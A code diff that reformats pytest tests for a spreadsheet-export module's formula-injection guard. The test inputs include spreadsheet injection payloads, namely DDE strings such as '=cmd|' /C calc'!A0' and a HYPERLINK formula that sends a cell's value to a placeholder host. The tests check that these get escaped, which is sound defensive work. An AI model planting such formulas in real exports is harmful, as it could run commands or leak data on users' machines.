@@ -20,15 +20,18 @@ import pytest
 from isgrille.analysis.spreadsheet import FORMULA_STARTS, safe_cell, write_csv, write_csv_file, write_xlsx
 
 
-@pytest.mark.parametrize("text", [
-    '=HYPERLINK("http://exemple.invalid/?x="&A1;"clic")',
-    "+33 6 12 34 56 78",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SOMME(A1:A9)",
-    "\t=1+1",
-    "\r=1+1",
-    "\0=1",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://exemple.invalid/?x="&A1;"clic")',
+        "+33 6 12 34 56 78",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SOMME(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "\0=1",
+    ],
+)
 def test_a_cell_that_could_be_a_formula_gets_a_quote(text):
     assert safe_cell(text) == "'" + text
 
@@ -42,9 +45,18 @@ def test_ordinary_text_is_left_as_it_is(text):
     assert safe_cell(text) == text
 
 
-@pytest.mark.parametrize(("value", "cell"), [
-    (0, "0"), (12, "12"), (-3, "-3"), (66.7, "66.7"), (-0.5, "-0.5"), (100.0, "100.0"), (None, ""),
-])
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (0, "0"),
+        (12, "12"),
+        (-3, "-3"),
+        (66.7, "66.7"),
+        (-0.5, "-0.5"),
+        (100.0, "100.0"),
+        (None, ""),
+    ],
+)
 def test_numbers_stay_numbers_and_none_is_empty(value, cell):
     assert safe_cell(value) == cell
 
@@ -92,7 +104,8 @@ def test_write_csv_for_excel_semicolons_decimal_comma_and_crlf():
     out = io.StringIO(newline="")
     assert write_csv(ROWS, out, excel=True) == 3
     assert out.getvalue().splitlines(keepends=True)[1] == (
-        "'=cmd|' /C calc'!A0;\"Zoé; «\u00a0formatrice\u00a0»\";2026-11-26;Fort;66,7\r\n")
+        "'=cmd|' /C calc'!A0;\"Zoé; «\u00a0formatrice\u00a0»\";2026-11-26;Fort;66,7\r\n"
+    )
     assert list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))[2] == ["Œuvre à 15 €", "'-2+3", "", "0", "-1"]
 
 
